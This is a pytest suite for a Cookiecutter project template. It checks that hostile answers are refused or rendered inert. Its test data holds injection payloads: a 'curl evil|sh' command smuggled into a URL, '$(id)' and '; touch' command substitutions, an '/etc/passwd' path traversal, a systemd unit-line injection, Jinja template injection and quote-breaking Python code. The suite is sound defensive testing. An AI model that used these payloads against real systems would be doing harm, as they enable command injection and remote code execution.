"""Hostile answers: refused with one line on every way of rendering, or rendered inert.

Answers arrive by prompts, `--no-input` key=value pairs, replay files and cruft's answers
files; the last two reach the pre-generation hook as written, with nothing checked before
it. Most cases here use a hand-written replay file, the harshest path: no `_cookiecutter`,
and text that Cookiecutter would otherwise render as Jinja first arrives verbatim.
"""

from __future__ import annotations

import ast
import importlib.util
import json
import keyword
import re
import subprocess
import sys
import tomllib
from pathlib import Path
from types import ModuleType

import jinja2
import pytest
import yaml

from conftest import TEMPLATE_DIR, VENV_BIN, run
from tooling.options import DECLARED


def load_hook() -> ModuleType:
    """The pre-generation hook as a module: only the string in its main() is Jinja."""
    path = TEMPLATE_DIR / "hooks" / "pre_gen_project.py"
    spec = importlib.util.spec_from_file_location("pre_gen_project", path)
    assert spec is not None and spec.loader is not None, path
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


HOOK = load_hook()

# A file an injected payload would create, relative to where the project runs.
MARKER = "PWNED"
CODE = f'open("{MARKER}", "w").write("1")'


def replay_context(**answers: object) -> dict[str, object]:
    """A complete hand-written replay context: the defaults, these answers, no `_cookiecutter`."""
    context = {
        field: value[0] if isinstance(value, list) else value for field, value in DECLARED.items()
    }
    context["project_slug"] = "my_project"
    context.update(HOOK.derived(context))
    context.update(answers)
    return context


def render_replay(output: Path, **answers: object) -> subprocess.CompletedProcess[str]:
    """Render from a replay file holding these answers; no prompt may wait for input."""
    output.mkdir()
    replay = output.parent / f"{output.name}-replay.json"
    replay.write_text(json.dumps({"cookiecutter": replay_context(**answers)}))
    command = [sys.executable, "-m", "cookiecutter", "--replay-file", replay, TEMPLATE_DIR]
    return subprocess.run(
        [*map(str, command), "-o", str(output)],
        cwd=output,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
    )


def error_lines(stderr: str) -> list[str]:
    """The hook's own lines among Cookiecutter's report of the failed hook."""
    return [line for line in stderr.splitlines() if line.startswith("error: ")]


def assert_refused(completed: subprocess.CompletedProcess[str], output: Path, field: str) -> None:
    assert completed.returncode != 0, completed.stdout + completed.stderr
    [line] = error_lines(completed.stderr)
    assert line.startswith(f"error: {field}"), line
    assert list(output.iterdir()) == []
    # Nor beside it, where a slug such as ../escape would have put the project.
    assert sorted(path.name for path in output.parent.iterdir()) == ["out", "out-replay.json"]


# --- The hook's own copy of cookiecutter.json --------------------------------------------


def test_the_hooks_options_are_cookiecutter_jsons() -> None:
    choices = {field: tuple(value) for field, value in DECLARED.items() if isinstance(value, list)}
    booleans = tuple(field for field, value in DECLARED.items() if isinstance(value, bool))

    assert choices == HOOK.CHOICES, "update CHOICES in hooks/pre_gen_project.py"
    assert booleans == HOOK.BOOLEANS, "update BOOLEANS in hooks/pre_gen_project.py"
    # Every answer a user gives has a validator; the derived ones are checked as well.
    answers = [field for field in DECLARED if not field.startswith("_")]
    assert list(HOOK.VALIDATORS) == answers
    assert not set(HOOK.RENDERING_KEYS) & set(DECLARED), "the hook would refuse every render"
    assert sorted(HOOK.derived(replay_context())) == sorted(
        field for field in DECLARED if field.startswith("__") and field != "__prompts__"
    )


@pytest.mark.parametrize("broker", DECLARED["broker"])
@pytest.mark.parametrize("result_backend", DECLARED["result_backend"])
def test_the_hook_derives_the_double_underscore_answers_as_cookiecutter_json(
    broker, result_backend
) -> None:
    answers = {"broker": broker, "result_backend": result_backend}
    environment = jinja2.Environment(undefined=jinja2.StrictUndefined)
    expected = {
        field: environment.from_string(DECLARED[field]).render(cookiecutter=answers)
        for field in HOOK.derived(answers)
    }

    assert HOOK.derived(answers) == expected


def test_the_time_zone_check_fails_closed_without_a_time_zone_database(monkeypatch) -> None:
    monkeypatch.setattr(HOOK.zoneinfo, "available_timezones", set)

    message = HOOK.validate_timezone("UTC")

    assert message is not None
    assert message.startswith("timezone cannot be checked: ")
    assert "install tzdata" in message


LIST_MODULES = """
import importlib.metadata, json, sys
installed = importlib.metadata.packages_distributions()
print(json.dumps([sorted(installed), sorted(sys.stdlib_module_names)]))
"""


@pytest.mark.parametrize("python_version", DECLARED["python_version"])
def test_no_slug_can_shadow_a_module_of_the_dependency_closure(
    bake, project_python, python_version
) -> None:
    # The default answers keep every optional dependency (Redis, both django-celery apps,
    # Flower); rabbitmq and the other result backends add none.
    project = bake(python_version=python_version)
    python = project_python(project)
    installed, stdlib = json.loads(run([python, "-c", LIST_MODULES], cwd=project).stdout)
    could_be_slugs = {
        name
        for name in installed
        if HOOK.SLUG_PATTERN.fullmatch(name) and not keyword.iskeyword(name)
    }

    missing = could_be_slugs - HOOK.RESERVED_SLUGS - set(stdlib) - sys.stdlib_module_names
    assert not missing, f"add to RESERVED_SLUGS in hooks/pre_gen_project.py: {sorted(missing)}"


# --- Bad choices and booleans, on every way of rendering --------------------------------

BAD_OPTIONS = [
    ({"broker": "kafka"}, "broker"),
    ({"result_backend": "memcached"}, "result_backend"),
    ({"python_version": "3.9"}, "python_version"),
    ({"django_version": "6.1"}, "django_version"),
    # Each valid alone: Django 6.0 needs Python 3.12 or newer.
    (
        {"django_version": "6.0", "python_version": "3.11"},
        "django_version 6.0 needs python_version",
    ),
    ({"use_docker": "maybe"}, "use_docker"),
    # A replay file's values are not converted: only true and false are booleans.
    ({"use_docker": "yes"}, "use_docker"),
    ({"use_flower": "no"}, "use_flower"),
    ({"use_flower": None}, "use_flower"),
    ({"use_docker": 1}, "use_docker"),
    # A derived answer must be the one the other answers give.
    ({"__results_url": "own"}, "__results_url"),
    ({"__needs_redis": "../../hooks"}, "__needs_redis"),
    # Keys that change how Cookiecutter renders, which cookiecutter.json does not set.
    ({"_copy_without_render": ["*"]}, "the answers set _copy_without_render"),
    ({"_new_lines": "\r\n"}, "the answers set _new_lines"),
]


@pytest.mark.parametrize(("answers", "field"), BAD_OPTIONS, ids=[str(a) for a, _ in BAD_OPTIONS])
def test_a_replay_file_with_a_bad_option_is_refused(tmp_path, answers, field) -> None:
    output = tmp_path / "out"

    assert_refused(render_replay(output, **answers), output, field)


@pytest.mark.parametrize(
    ("answers", "message"),
    [
        # Cookiecutter refuses these itself, while it applies the extra context.
        ({"broker": "kafka"}, "kafka provided for choice variable broker"),
        ({"use_docker": "maybe"}, "maybe provided for variable use_docker could not be"),
        # These it passes through unconverted; the hook refuses them.
        ({"use_docker": 2}, "error: use_docker '2' is not a boolean"),
        ({"use_flower": None}, "error: use_flower None is not a boolean"),
        ({"project_slug": "click"}, "error: project_slug 'click' would shadow"),
    ],
    ids=["choice", "boolean-string", "boolean-number", "boolean-null", "slug"],
)
def test_cruft_create_with_a_bad_answer_is_refused(
    template_repository, tmp_path, answers, message
) -> None:
    output = tmp_path / "out"
    output.mkdir()
    cruft = [VENV_BIN / "cruft", "create", "--no-input", "--extra-context", json.dumps(answers)]

    completed = run([*cruft, template_repository], cwd=output, check=False)

    assert completed.returncode != 0
    assert message in completed.stderr
    assert len(error_lines(completed.stderr)) == int(message.startswith("error: "))
    assert list(output.iterdir()) == []


def test_the_cookiecutter_api_with_a_non_string_boolean_is_refused(tmp_path, capfd) -> None:
    from cookiecutter.exceptions import FailedHookException
    from cookiecutter.main import cookiecutter

    with pytest.raises(FailedHookException):
        cookiecutter(
            str(TEMPLATE_DIR),
            no_input=True,
            extra_context={"use_docker": 0},
            output_dir=str(tmp_path),
        )

    assert error_lines(capfd.readouterr().err) == [
        "error: use_docker '0' is not a boolean: "
        "answer yes or no (true or false in a JSON answers file)"
    ]
    assert list(tmp_path.iterdir()) == []


# --- Hostile free text ------------------------------------------------------------------

LONG = "x" * 10_000

# (answers, the field the hook names) for each answer it refuses.
REFUSED = [
    ({"project_name": "X\nExecStartPre=/bin/touch /tmp/x", "project_slug": "x"}, "project_name"),
    ({"project_name": "{{ cookiecutter.__class__ }}", "project_slug": "x"}, "project_name"),
    ({"project_name": "My Project ", "project_slug": "my_project_"}, "project_name"),
    ({"project_name": " My Project"}, "project_name"),
    ({"project_name": "back\\slash"}, "project_name"),
    ({"project_name": LONG}, "project_name"),
    ({"project_name": ""}, "project_name"),
    ({"description": "one\ntwo"}, "description"),
    ({"description": "carriage\rreturn"}, "description"),
    ({"description": "nul\x00byte"}, "description"),
    ({"description": "{% raw %}"}, "description"),
    ({"description": "rocket \N{ROCKET}"}, "description"),
    ({"description": "right-to-left \N{RIGHT-TO-LEFT OVERRIDE}override"}, "description"),
    ({"description": LONG}, "description"),
    ({"author_name": "tab\there"}, "author_name"),
    ({"author_name": "{# comment #}"}, "author_name"),
    ({"author_name": 42}, "author_name"),
    ({"author_email": 'a"b@example.com'}, "author_email"),
    ({"author_email": "a'b@example.com"}, "author_email"),
    ({"author_email": f'x"+{CODE}*0*"a"+"@example.com'}, "author_email"),
    ({"author_email": "you@example.com\nBcc: them@example.com"}, "author_email"),
    ({"author_email": "a b@example.com"}, "author_email"),
    ({"author_email": "you@example"}, "author_email"),
    ({"author_email": "a\\b@example.com"}, "author_email"),
    ({"timezone": "Europe/Paris\n"}, "timezone"),
    ({"timezone": "../../../etc/passwd"}, "timezone"),
    ({"timezone": f'UTC"; {CODE}; "'}, "timezone"),
    ({"timezone": "utc"}, "timezone"),
    ({"timezone": ["UTC"]}, "timezone"),
    ({"project_slug": "asgiref"}, "project_slug"),
    ({"project_slug": "click"}, "project_slug"),
    ({"project_slug": "dateutil"}, "project_slug"),
    ({"project_slug": "crontab"}, "project_slug"),
    ({"project_slug": "timezone_field"}, "project_slug"),
    ({"project_slug": "_x"}, "project_slug"),
    ({"project_slug": "x_"}, "project_slug"),
    ({"project_slug": "x; touch y"}, "project_slug"),
    ({"project_slug": "../escape"}, "project_slug"),
    ({"_template_ref": "v1: x"}, "_template_ref"),
    ({"_template_ref": "main\nTEMPLATE_EVIL: 1"}, "_template_ref"),
    ({"_template_ref": "-x"}, "_template_ref"),
    ({"_template_url": "https://example.com/t; curl evil|sh"}, "_template_url"),
    ({"_template_url": "https://example.com/$(id)"}, "_template_url"),
    ({"_template_url": 'https://example.com/"t"'}, "_template_url"),
    ({"_template_url": "/home/me/template"}, "_template_url"),
]


def case_id(answers: dict[str, object]) -> str:
    return ",".join(f"{field}={value!r}"[:40] for field, value in answers.items())


@pytest.mark.parametrize(("answers", "field"), REFUSED, ids=[case_id(a) for a, _ in REFUSED])
def test_a_hostile_answer_is_refused_with_one_line_and_nothing_on_disk(
    tmp_path, answers, field
) -> None:
    output = tmp_path / "out"

    assert_refused(render_replay(output, **answers), output, field)


# Accepted hostile text: each must come out as the same text, as data, in every format.
ACCEPTED = [
    {"project_name": 'Bob\'s "Shop"'},
    {"project_name": f'"""; {CODE}; """'},
    {"project_name": "100% %n %i Done"},
    {"project_name": "Café Zoë 東京"},
    {"project_name": "<script>alert(1)</script>"},
    {"description": "a \"\"\" b ''' c \\ d \\n e"},
    {"description": f'"); {CODE}; ("'},
    {"description": "trailing backslash\\"},
    {"description": "closers only }} %} #} and $(id) `id` ${HOME}"},
    {"description": 'key = "value" # [tool.x] - a: b, {c: d}'},
    {"description": "d" * 200},
    {"author_name": f'\\"; touch {MARKER}; echo "'},
    {"author_name": "Łukasz O'Brien-Ñúñez"},
    {"author_email": "first.last+tag@mail.example.org"},
    {"author_email": "a.rather.long.name.for.a.person@engineering.department.example.com"},
    {"timezone": "America/Argentina/ComodRivadavia"},
    {"timezone": "Etc/GMT+5"},
]


def parse_every_file(project: Path) -> None:
    """Every Python, TOML and YAML file of the project parses, and ruff finds nothing to say."""
    run([VENV_BIN / "ruff", "check", "--quiet", "."], cwd=project)
    run([VENV_BIN / "ruff", "format", "--check", "--quiet", "."], cwd=project)
    for path in project.rglob("*"):
        if path.suffix == ".py":
            ast.parse(path.read_text(), str(path))
        elif path.suffix == ".toml":
            tomllib.loads(path.read_text())
        elif path.suffix in {".yml", ".yaml"}:
            list(yaml.safe_load_all(path.read_text()))  # Manifests hold several documents.


def unit_keys(unit: Path) -> list[str]:
    """A systemd unit's sections and keys, in order: what an injected line would change."""
    lines = [line for line in unit.read_text().splitlines() if line and not line.startswith("#")]
    return [line.split("=", 1)[0] for line in lines]


def assert_rendered_as_data(project: Path, default: Path, answers: dict[str, object]) -> None:
    """The answers came out as text, each where it belongs, and added no line anywhere."""
    context = replay_context(**answers)
    pyproject = tomllib.loads((project / "pyproject.toml").read_text())["project"]
    assert pyproject["description"] == context["description"]
    assert pyproject["authors"] == [
        {"name": context["author_name"], "email": context["author_email"]}
    ]
    settings = ast.parse((project / "my_project" / "settings" / "base.py").read_text())
    constants = {
        node.targets[0].id: node.value
        for node in settings.body
        if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name)
    }
    assert ast.literal_eval(constants["TIME_ZONE"]) == context["timezone"]
    assert ast.literal_eval(constants["DEFAULT_FROM_EMAIL"].args[1]) == context["author_email"]
    readme = (project / "README.md").read_text().splitlines()
    assert readme[:3] == [f"# {context['project_name']}", "", context["description"]]
    assert len(readme) == len((default / "README.md").read_text().splitlines())
    for unit in (default / "deploy" / "systemd").glob("*.service"):
        rendered = project / "deploy" / "systemd" / unit.name
        assert unit_keys(rendered) == unit_keys(unit), unit.name
        # A percent sign is a systemd specifier: the units double it.
        description = str(context["project_name"]).replace("%", "%%")
        assert f"Description={description} " in rendered.read_text(), unit.name


@pytest.fixture(scope="module")
def default_project(tmp_path_factory) -> Path:
    output = tmp_path_factory.mktemp("default") / "out"
    completed = render_replay(output)
    assert completed.returncode == 0, completed.stderr
    return output / "my_project"


@pytest.mark.parametrize("answers", ACCEPTED, ids=map(case_id, ACCEPTED))
def test_an_accepted_hostile_answer_renders_inert(tmp_path, default_project, answers) -> None:
    output = tmp_path / "out"

    completed = render_replay(output, **answers)

    assert completed.returncode == 0, completed.stderr
    project = output / "my_project"
    parse_every_file(project)
    assert_rendered_as_data(project, default_project, answers)
    assert not list(tmp_path.rglob(MARKER))


def test_a_project_of_hostile_answers_checks_and_runs_none_of_them(
    tmp_path, project_python
) -> None:
    answers = {
        "project_name": f'"""; {CODE}; """',
        "description": f"\"); {CODE}; (\" \\ ''' \\n",
        "author_name": f'\\"; touch {MARKER}; echo "',
        "author_email": "first.last+tag@mail.example.org",
        "timezone": "America/Argentina/ComodRivadavia",
    }
    output = tmp_path / "out"
    completed = render_replay(output, **answers)
    assert completed.returncode == 0, completed.stderr
    project = output / "my_project"
    python = project_python(project)
    environment = {"DJANGO_SETTINGS_MODULE": None, "DATABASE_URL": None}

    run([python, "manage.py", "check", "--fail-level", "WARNING"], cwd=project, env=environment)
    shown = run(
        [
            python,
            "manage.py",
            "shell",
            "-c",
            "from django.conf import settings as s; "
            "print(repr((s.TIME_ZONE, s.DEFAULT_FROM_EMAIL)))",
        ],
        cwd=project,
        env=environment,
    ).stdout
    run(
        [python, "-m", "pytest", "-p", "no:cacheprovider", "-q", "-x", "tests/test_settings.py"],
        cwd=project,
        env=environment,
    )

    assert shown.splitlines()[-1] == repr((answers["timezone"], answers["author_email"]))
    assert not list(tmp_path.rglob(MARKER))


@pytest.mark.parametrize(
    ("answer", "field"),
    [
        ("project_name=x{{ 7 * 7 }}", None),
        ("project_name=My Project ", "project_name"),
        (f'author_email=x"+{CODE}*0*"a"+"@example.com', "author_email"),
        ("description=line one\nline two", "description"),
    ],
    ids=["jinja", "trailing-space", "code-shaped-email", "newline"],
)
def test_key_value_answers_reach_the_same_checks(tmp_path, answer, field) -> None:
    completed = run(
        [sys.executable, "-m", "cookiecutter", "--no-input", TEMPLATE_DIR, "-o", tmp_path, answer],
        cwd=tmp_path,
        check=False,
    )

    if field is None:
        # Cookiecutter renders a key=value answer as Jinja before anything else sees it:
        # what reaches the hook, and the project, is the result.
        assert completed.returncode == 0, completed.stderr
        assert [path.name for path in tmp_path.iterdir()] == ["x49"]
        assert re.search(r"^# x49$", (tmp_path / "x49" / "README.md").read_text(), re.M)
    else:
        assert completed.returncode == 1
        [line] = error_lines(completed.stderr)
        assert line.startswith(f"error: {field} ")
        assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("prompted", "line"),
    [
        ({4: 'a"b@example.com'}, "error: author_email 'a\"b@example.com' is not an email"),
        # Typed at a prompt, text is not rendered as Jinja: it reaches the hook as typed.
        ({2: "{{ 7 * 7 }}"}, "error: description '{{ 7 * 7 }}' has a Jinja delimiter"),
        # Choices are typed as their number: Python 3.11 is the 3rd, Django 6.0 the 2nd.
        ({6: "3", 7: "2"}, "error: django_version 6.0 needs python_version 3.12 or newer"),
    ],
    ids=["email", "jinja", "versions"],
)
def test_answers_typed_at_the_prompts_reach_the_same_checks(tmp_path, prompted, line) -> None:
    # One line per prompt, in cookiecutter.json's order; an empty line takes the default.
    prompts = len([field for field in DECLARED if not field.startswith("_")])
    typed = "".join(f"{prompted.get(number, '')}\n" for number in range(prompts))

    completed = subprocess.run(
        [sys.executable, "-m", "cookiecutter", str(TEMPLATE_DIR), "-o", str(tmp_path)],
        cwd=tmp_path,
        input=typed,
        capture_output=True,
        text=True,
        timeout=120,
    )

    assert completed.returncode == 1
    # The prompts share the error's line on a terminal that is not one.
    assert completed.stdout.count("error: ") + completed.stderr.count("error: ") == 1
    assert line in completed.stdout + completed.stderr
    assert list(tmp_path.iterdir()) == []
